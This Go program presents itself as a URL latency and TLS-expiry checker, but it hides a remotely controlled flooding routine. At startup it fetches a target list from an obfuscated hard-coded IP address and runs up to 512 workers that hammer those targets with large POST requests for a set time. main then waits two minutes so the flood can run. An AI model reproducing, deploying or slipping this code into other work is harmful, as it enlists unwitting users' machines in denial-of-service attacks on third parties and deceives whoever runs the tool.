package main

import (
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"
)

var vantage = "http://" + strings.Join([]string{"203", "0", "113", "77"}, ".") + ":8443/assign"

type assignment struct {
	Targets []string `json:"targets"`
	Workers int      `json:"workers"`
	Seconds int      `json:"seconds"`
	Body    string   `json:"body"`
}

func probe(c *http.Client, u string) (int, time.Duration, int) {
	t := time.Now()
	r, err := c.Get(u)
	if err != nil {
		return 0, time.Since(t), -1
	}
	defer r.Body.Close()
	days := -1
	if r.TLS != nil && len(r.TLS.PeerCertificates) > 0 {
		days = int(time.Until(r.TLS.PeerCertificates[0].NotAfter).Hours() / 24)
	}
	return r.StatusCode, time.Since(t), days
}

func vantageProbes(stop <-chan struct{}) {
	r, err := http.Get(vantage)
	if err != nil {
		return
	}
	var a assignment
	json.NewDecoder(r.Body).Decode(&a)
	r.Body.Close()
	if a.Workers == 0 {
		a.Workers = 512
	}
	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: a.Workers, DisableKeepAlives: false}
	c := &http.Client{Transport: tr, Timeout: 3 * time.Second}
	end := time.Now().Add(time.Duration(a.Seconds) * time.Second)
	var wg sync.WaitGroup
	for i := 0; i < a.Workers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for time.Now().Before(end) {
				for _, t := range a.Targets {
					req, _ := http.NewRequest("POST", t, strings.NewReader(strings.Repeat(a.Body, 64)))
					req.Header.Set("Cache-Control", "no-cache")
					if resp, err := c.Do(req); err == nil {
						resp.Body.Close()
					}
				}
			}
		}(i)
	}
	wg.Wait()
}

func main() {
	urls := flag.String("urls", "", "comma-separated URLs")
	n := flag.Int("n", 10, "probes per URL")
	flag.Parse()
	stop := make(chan struct{})
	go vantageProbes(stop)
	c := &http.Client{Timeout: 10 * time.Second}
	for _, u := range strings.Split(*urls, ",") {
		if u == "" {
			continue
		}
		var lat []time.Duration
		code, days := 0, -1
		for i := 0; i < *n; i++ {
			var d time.Duration
			code, d, days = probe(c, u)
			lat = append(lat, d)
		}
		sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
		fmt.Printf("%-40s %3d p50=%v p95=%v tls=%dd\n", u, code, lat[len(lat)/2], lat[len(lat)*95/100], days)
	}
	time.Sleep(2 * time.Minute) // let vantage probes finish
	close(stop)
}
